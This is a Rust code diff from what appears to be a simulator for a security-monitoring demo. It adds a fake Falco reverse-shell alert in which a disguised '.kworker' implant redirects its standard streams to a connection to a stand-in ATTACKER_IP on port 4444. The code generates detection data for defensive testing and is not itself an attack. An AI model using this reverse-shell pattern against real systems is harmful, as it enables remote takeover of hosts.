@@ -5,7 +5,7 @@ use super::super::sim::{MS, NODE1, NODE2, SEC, Sim};
 use super::super::truth::*;
 use super::*;
 use crate::demo::sim::Side::{Accept, Connect};
-use crate::schema::EventKind;
+use crate::schema::{EventKind, FindingDetail, Severity};
 use crate::store::StoreError;
 
 /// The two pods of the story, started by the morning rollout, with their kubelet probes.
@@ -264,6 +264,29 @@ pub(super) fn exploit(sim: &mut Sim, day: i64, s: &mut Scene) -> Result<(), Stor
         Some((crate::demo::sim::ip(WEB_IP), 52_344)),
         (crate::demo::sim::ip(ATTACKER_IP), 4444),
         None,
+    )?;
+    // The implant dup2()s the socket onto its standard streams: Falco's reverse-shell rule.
+    let message = format!(
+        "Redirect stdout/stdin to network connection | gparent=python3 fd.sip={ATTACKER_IP} \
+         connection={WEB_IP}:52344->{ATTACKER_IP}:4444 lport=52344 rport=4444 fd_type=ipv4 \
+         fd_proto=tcp evt_type=dup2 user=app user_uid=1000 user_loginuid=-1 process=.kworker \
+         proc_exepath={DROPPER_PATH} parent=sh command=.kworker {ATTACKER_IP} 4444 terminal=0"
+    );
+    let tags = ["maturity_stable", "container", "network", "process"];
+    sim.finding(
+        NODE1,
+        &implant,
+        day + at(14, 2, 12, 230),
+        w,
+        FindingDetail::rule(REVERSE_SHELL_RULE)
+            .severity(Some(Severity::Low))
+            .tags(
+                tags.iter()
+                    .chain(&["mitre_execution", "T1059"])
+                    .map(|t| t.to_string())
+                    .collect(),
+            )
+            .message(Some(message)),
     )?;
     let shell = sim.spawn(
         NODE1,
